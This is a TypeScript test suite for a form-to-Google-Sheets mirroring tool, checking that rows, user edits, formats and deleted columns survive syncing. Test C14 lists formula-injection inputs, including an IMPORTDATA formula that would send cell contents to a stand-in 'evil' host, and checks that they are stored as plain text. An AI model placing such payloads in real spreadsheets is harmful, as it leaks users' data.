import type { sheets_v4 } from 'googleapis/build/src/apis/sheets/v4.js';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { ApplyResult, Target } from '../../../src/mirror/target.ts';
import { ExactNumber, type PickedField, type Row, STATUSES } from '../../../src/mirror/types.ts';
import type { Stored } from '../../../packages/google-sheets-emulator/test/support/inspect.ts';
import type { Person } from '../../../packages/google-sheets-emulator/test/support/people.ts';
import { EMULATOR_TOKEN } from '../../../src/targets/google/credentials.ts';
import { AT_ONCE, field, fieldList, FORM, row } from '../../contract/target-harness.ts';
import { SleepersClock, type SheetsPlace, sheetsPlace } from './sheets-place.ts';

const NAME = field('field_1_a', 'Full name');
const CITY = field('field_2_b', 'City', { position: 1 });
const FIELDS = [NAME, CITY];
const TAB = 'Contact form';
/* Columns of the tab; those from 6 on are people's. */
const [AT, STATUS, FULL_NAME, TOWN, REMOVED, ID, OWN] = [0, 1, 2, 3, 4, 5, 6];

/** What people say of the tools they had. Each case is one of the complaints that a sheet is to blame for. */
describe('complaints about mirrors in sheets', () => {
  let place: SheetsPlace;
  let target: Target;
  let person: Person;

  beforeEach(async () => {
    place = await sheetsPlace({
      clock: new SleepersClock(),
      spreadsheet: { timeZone: 'Europe/Prague' },
    });
    target = await place.open();
  });
  afterEach(() => place.dispose());

  const mirror = async (
    rows: readonly Row[],
    fields: readonly PickedField[] = FIELDS,
  ): Promise<ApplyResult> => {
    await using writer = await target.openWriter(FORM, AT_ONCE);
    await writer.prepare(fields);
    const result = await writer.apply(rows, []);
    const first = place.sandbox.inspect
      .metadata(place.spreadsheetId)
      .find((one) => one.metadataKey === 'fm.form');
    person = place.sandbox.people.at(place.spreadsheetId, first?.location?.sheetId ?? 0);
    return result;
  };
  const answers = (id: string, name: string, city = 'Praha', rest: Partial<Row> = {}): Row =>
    row(id, { field_1_a: name, field_2_b: city }, rest);
  const grid = (tab: string = TAB): Stored[][] =>
    place.sandbox.inspect.grid(place.spreadsheetId, tab);
  const shown = (): string[][] => place.sandbox.inspect.shown(place.spreadsheetId, TAB);
  const types = (): string[][] => place.sandbox.inspect.types(place.spreadsheetId, TAB);
  /** The rows by ID, as texts that can be compared whatever stands beside. */
  const line = (id: string): Stored[] => grid().find((cells) => cells.includes(id)) ?? [];
  const people = [answers('s1', 'Ada'), answers('s2', 'Bob'), answers('s3', 'Cyd')];

  it('C1: a moved column and a sort by date: answers still land in their column and row', async () => {
    await mirror(people);
    person.moveColumns(FULL_NAME, 1, 0);
    person.sortSheet(1, 'DESCENDING');
    person.moveColumns(ID, 1, 1);
    await mirror([answers('s2', 'Bob', 'Brno'), answers('s4', 'Dan', 'Plzeň')]);
    const [header = []] = grid();
    const at = (name: string): number => header.indexOf(name);
    for (const [id, name, city] of [
      ['s2', 'Bob', 'Brno'],
      ['s4', 'Dan', 'Plzeň'],
      ['s1', 'Ada', 'Praha'],
    ]) {
      const cells = grid().find((one) => one[at('Submission ID')] === id) ?? [];
      expect([cells[at('Full name')], cells[at('City')]]).toEqual([name, city]);
    }
  });

  it('C2: a submission that is sent again and again is one row', async () => {
    for (let time = 0; time < 18; time++) await mirror(people);
    expect(grid()).toHaveLength(4);
  });

  it('C4: with a filter on and rows hidden, new rows arrive, below, and no row is replaced', async () => {
    await mirror(people);
    person.filter(FULL_NAME, ['Bob', 'Cyd']);
    person.hideRows(2, 2);
    await mirror([answers('s3', 'Cyd', 'Zlín'), answers('s4', 'Dan')]);
    expect(grid().map((cells) => cells[ID])).toEqual(['Submission ID', 's1', 's2', 's3', 's4']);
    expect(line('s3')).toContain('Zlín');
  });

  it('C5: an empty column in between shifts nothing', async () => {
    await mirror(people);
    person.insertColumns(0, 2);
    person.insertColumns(3, 1);
    await mirror([answers('s4', 'Dan', 'Zlín')]);
    expect(line('s4').slice(0, 2)).toEqual([null, null]);
    expect(line('s4').slice(2)).toEqual([
      expect.any(Number),
      null,
      'NEW',
      'Dan',
      'Zlín',
      null,
      's4',
    ]);
  });

  it('C6: title rows, gaps, blanks and a dummy row stay what they are, and the header is no record', async () => {
    await mirror(people);
    person.insertTitleRow(0, 'Customers of 2026');
    person.insertRows(3, 2);
    person.type(7, FULL_NAME, 'dummy');
    const header = grid()[1];
    await mirror([answers('s2', 'Bob', ''), answers('unknown', 'Eve')]);
    expect(grid()[0]?.[0]).toBe('Customers of 2026');
    expect(grid()[1]).toEqual(header);
    expect(line('s2')).toEqual([expect.any(Number), 'NEW', 'Bob', null, null, 's2']);
    expect(line('s1')).toContain('Praha');
    expect(
      grid()
        .flat()
        .filter((cell) => cell === 'dummy'),
    ).toHaveLength(1);
    expect(line('unknown')).toEqual([expect.any(Number), 'NEW', 'Eve', 'Praha', null, 'unknown']);
  });

  it('C7: a header that people renamed is no error, and stays theirs when the form renames the field', async () => {
    await mirror(people);
    person.renameColumn(FULL_NAME, 'Our word for it');
    await mirror(people, [{ ...NAME, label: 'Your name' }, CITY]);
    expect(grid()[0]).toEqual([
      'Submitted at',
      'Status',
      'Our word for it',
      'City',
      'Removed',
      'Submission ID',
    ]);
    await mirror(people, [NAME, { ...CITY, label: 'Town' }]);
    expect(grid()[0]?.[TOWN]).toBe('Town');
  });

  it('C8 C34: rows, fixes and notes of people survive every answer, and the deletion of one', async () => {
    await mirror(people);
    person.insertColumns(1, 1);
    person.type(1, 1, 'call back');
    person.type(2, 1, 'paid in cash');
    person.type(5, ID + 1, 'our own remark');
    await mirror([answers('s1', 'Ada', 'Olomouc'), answers('s4', 'Dan')]);
    await using writer = await target.openWriter(FORM, AT_ONCE);
    await writer.markDeleted(['s2'], '2026-03-02T10:00:00.000Z');
    const at = expect.any(Number);
    expect(line('s1')).toEqual([at, 'call back', 'NEW', 'Ada', 'Olomouc', null, 's1']);
    expect(line('s2')).toEqual([at, 'paid in cash', 'NEW', 'Bob', 'Praha', at, 's2']);
    expect(grid().flat()).toContain('our own remark');
    expect(shown().find((cells) => cells[ID + 1] === 's2')?.[REMOVED + 1]).toBe(
      '3/2/2026 11:00:00',
    );
  });

  it('an answer that somebody overwrote is put right when its row is compared', async () => {
    await mirror(people);
    person.type(1, FULL_NAME, 'Ada, corrected by hand');
    await mirror(people);
    expect(line('s1')[FULL_NAME]).toBe('Ada');
  });

  it('C9 C10: formulas beside the answers go on working, and formats stay as people set them', async () => {
    await mirror(people);
    person.type(1, OWN, '=LEN(C2)');
    person.type(0, OWN + 1, '=COUNTA(C2:C100)');
    const european = { numberFormat: { type: 'DATE_TIME', pattern: 'd. m. yyyy' } };
    person.format({ left: AT, right: AT + 1 }, european);
    await mirror([answers('s1', 'Ada Lovelace'), answers('s4', 'Dan')]);
    expect(shown()[1]?.[OWN]).toBe('12');
    expect(shown()[0]?.[OWN + 1]).toBe('4');
    // The new row too is shown as people want dates to be shown.
    expect([1, 4].map((index) => shown()[index]?.[AT])).toEqual(['1. 3. 2026', '1. 3. 2026']);
  });

  it('C11: passes do not grow the grid, and a pass that fails leaves the sheet full', async () => {
    await mirror(people);
    const size = () =>
      place.sandbox.inspect.tabs(place.spreadsheetId).find((tab) => tab.title === TAB);
    const before = size();
    for (let time = 0; time < 5; time++)
      await mirror([answers('s1', `Ada ${time}`), ...people.slice(1)]);
    expect(size()).toEqual(before);
    place.sandbox.faults.add({
      path: /:batchUpdate$/,
      status: 503,
      times: Number.POSITIVE_INFINITY,
    });
    await expect(mirror([answers('s1', 'lost')])).rejects.toMatchObject({ retryable: true });
    expect(grid().map((cells) => cells[FULL_NAME])).toEqual(['Full name', 'Ada 4', 'Bob', 'Cyd']);
  });

  it('each status has its colour, in a rule over its column that is theirs to change', async () => {
    await mirror(people);
    const { sandbox, spreadsheetId } = place;
    const fields = 'sheets(properties(title),conditionalFormats)';
    const answer = await fetch(
      `${sandbox.url}v4/spreadsheets/${spreadsheetId}?fields=${encodeURIComponent(fields)}`,
      { headers: { authorization: `Bearer ${EMULATOR_TOKEN}` } },
    );
    const { sheets = [] } = (await answer.json()) as sheets_v4.Schema$Spreadsheet;
    const rules = sheets.find(({ properties }) => properties?.title === TAB)?.conditionalFormats;
    const statuses = (rules ?? [])
      .filter(
        ({ ranges }) =>
          ranges?.[0]?.startColumnIndex === STATUS && ranges[0].endColumnIndex === STATUS + 1,
      )
      .map(({ booleanRule }) => booleanRule?.condition?.values?.[0]?.userEnteredValue);
    expect(statuses).toEqual([...STATUSES]);
  });

  it('C14: nothing that anyone typed into the form is ever evaluated', async () => {
    const evil = [
      '=IMPORTDATA("http://evil/?"&B2)',
      '+1+1',
      '-1+1',
      '@SUM(A1)',
      "'=1+1",
      '\t=1',
      '{=1}',
    ];
    await mirror(evil.map((text, index) => answers(`e${index}`, text)));
    await mirror(evil.map((text, index) => answers(`e${index}`, text, text)));
    expect(
      grid()
        .slice(1)
        .map((cells) => cells.slice(FULL_NAME, REMOVED)),
    ).toEqual(evil.map((text) => [text, text]));
    expect(
      types()
        .flat()
        .filter((type) => type === 'formula' || type === 'error'),
    ).toEqual([]);
  });

  it('C16: a very long answer arrives, cut where everybody sees it, and is reported', async () => {
    const { rejections, outcomes } = await mirror([
      answers('long', 'x'.repeat(60_000)),
      answers('ok', 'y'),
    ]);
    expect(outcomes).toEqual(['inserted', 'inserted']);
    expect(rejections).toEqual([
      {
        submissionId: 'long',
        stored: true,
        reason: expect.stringContaining('"Full name" is longer than'),
      },
    ]);
    expect(line('long')[FULL_NAME]).toMatch(/^x{1000}.*x… \[cut: 60,000 characters\]$/);
    expect(await mirror([answers('long', 'x'.repeat(60_000)), answers('ok', 'y')])).toMatchObject({
      outcomes: ['unchanged', 'unchanged'],
      newlyListed: new Set(),
      forgotten: new Set(),
    });
  });

  it('C18: zeros in front, phone numbers, long digits and what looks like a date stay as they are', async () => {
    const texts = [
      '00123',
      '+420 777 123 456',
      '1705971932369780',
      '12345678901234567',
      '1-2',
      '1/2/2026',
      '1.10',
      'TRUE',
    ];
    await mirror(texts.map((text, index) => answers(`t${index}`, text)));
    expect(
      shown()
        .slice(1)
        .map((cells) => cells[FULL_NAME]),
    ).toEqual(texts);
    expect(
      types()
        .slice(1)
        .map((cells) => cells[FULL_NAME]),
    ).toEqual(texts.map(() => 'string'));
    const numbers = [42, 1.5, 1_705_971_932_369_780, new ExactNumber('9007199254740993')];
    await mirror(numbers.map((value, index) => row(`n${index}`, { field_1_a: value })));
    expect(
      shown()
        .slice(-4)
        .map((cells) => cells[FULL_NAME]),
    ).toEqual(['42', '1.5', '1705971932369780', '9007199254740993']);
    expect(
      types()
        .slice(-4)
        .map((cells) => cells[FULL_NAME]),
    ).toEqual(['number', 'number', 'number', 'string']);
  });

  it('C19: the time of a submission is a real date in the team’s time zone, and follows a new one', async () => {
    await mirror(people);
    expect(shown()[1]?.[AT]).toBe('3/1/2026 13:00:00');
    expect(types()[1]?.[AT]).toBe('number');
    person.setTimeZone('America/New_York');
    await mirror(people);
    expect(shown()[1]?.[AT]).toBe('3/1/2026 7:00:00');
  });

  it('C20: a new title of a question changes the header, never whose answers stand below', async () => {
    await mirror(people);
    await mirror(
      [answers('s4', 'Dan', 'Zlín')],
      [
        { ...NAME, label: 'City' },
        { ...CITY, label: 'Full name' },
      ],
    );
    expect(grid()[0]?.slice(FULL_NAME, REMOVED)).toEqual(['City', 'Full name']);
    expect(line('s4').slice(FULL_NAME, REMOVED)).toEqual(['Dan', 'Zlín']);
  });

  it('C21: questions called Date, ID, Status or alike have columns of their own, with names of their own', async () => {
    const fields = fieldList(
      field('f1', 'Submission ID'),
      field('f2', 'Status'),
      field('f3', 'Date'),
      field('f4', 'Date'),
      field('f5', ''),
    );
    await mirror([row('s1', { f1: 'a', f2: 'b', f3: 'c', f4: 'd', f5: 'e' })], fields);
    expect(grid()[0]?.slice(2, 7)).toEqual([
      'Submission ID (2)',
      'Status (2)',
      'Date',
      'Date (2)',
      'f5',
    ]);
    expect(line('s1').slice(2, 7)).toEqual(['a', 'b', 'c', 'd', 'e']);
  });

  it('C31: reordered, renamed and duplicated tabs: the form’s own tab is written, no other', async () => {
    await mirror(people);
    const first = grid('Sheet1');
    const copy = person.duplicateTab();
    person.renameTab('Kontakte');
    person.moveTab(3);
    const before = place.sandbox.inspect.grid(place.spreadsheetId, copy);
    await mirror([answers('s1', 'Ada', 'Brno')]);
    expect(grid('Kontakte').find((cells) => cells[ID] === 's1')).toContain('Brno');
    expect(place.sandbox.inspect.grid(place.spreadsheetId, copy)).toEqual(before);
    expect(grid('Sheet1')).toEqual(first);
  });

  it('a row that people copied is reported and left alone; one that they deleted comes back', async () => {
    await mirror(people);
    person.duplicateRow(1);
    person.type(2, TOWN, 'my version');
    person.deleteRows(4);
    const { outcomes } = await mirror([answers('s1', 'Ada', 'Brno'), ...people.slice(1)]);
    expect(outcomes).toEqual(['updated', 'unchanged', 'inserted']);
    expect(grid().map((cells) => [cells[ID], cells[TOWN]])).toEqual([
      ['Submission ID', 'City'],
      ['s1', 'Brno'],
      ['s1', 'my version'],
      ['s2', 'Praha'],
      ['s3', 'Praha'],
    ]);
    const copies = (await target.check()).find((one) => one.message.includes('repeats'));
    expect(copies?.message).toContain('row 3 repeats row 2');
  });

  it('a column that people deleted stays gone, is listed, and comes back when asked for', async () => {
    await mirror(people);
    person.deleteColumns(TOWN);
    await mirror([answers('s1', 'Ada', 'Brno'), ...people.slice(1)]);
    expect(grid()[0]).toEqual(['Submitted at', 'Status', 'Full name', 'Removed', 'Submission ID']);
    expect((await target.overview())[0]?.droppedColumns).toEqual(['City']);
    await using writer = await target.openWriter(FORM, AT_ONCE);
    expect((await writer.prepare(FIELDS, { restoreColumns: true })).added).toEqual(['City']);
    await writer.apply([answers('s1', 'Ada', 'Brno'), ...people.slice(1)], []);
    expect(grid().map((cells) => cells[TOWN])).toEqual(['City', 'Brno', 'Praha', 'Praha']);
    expect((await target.overview())[0]?.droppedColumns).toEqual([]);
  });

  it('a deleted ID column is an error that says what to do, and nothing is written', async () => {
    await mirror(people);
    person.deleteColumns(ID);
    const before = grid();
    await expect(mirror(people)).rejects.toMatchObject({
      code: 'TARGET_FAILED',
      retryable: false,
      message: expect.stringMatching(/column of submission IDs was deleted.*Version history/),
    });
    expect(grid()).toEqual(before);
  });
});
